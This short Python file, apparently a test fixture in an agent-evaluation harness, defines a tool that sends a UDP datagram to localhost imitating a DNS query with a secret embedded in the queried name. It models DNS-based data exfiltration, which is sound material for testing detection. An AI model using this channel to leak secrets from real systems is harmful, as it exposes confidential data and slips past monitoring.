"""Send a datagram, as a question to a name server would be, with a secret in the name."""

import socket


def tool(world):
    socket.socket(type=socket.SOCK_DGRAM).sendto(b"secret.example.com", ("127.0.0.1", world["udp"]))
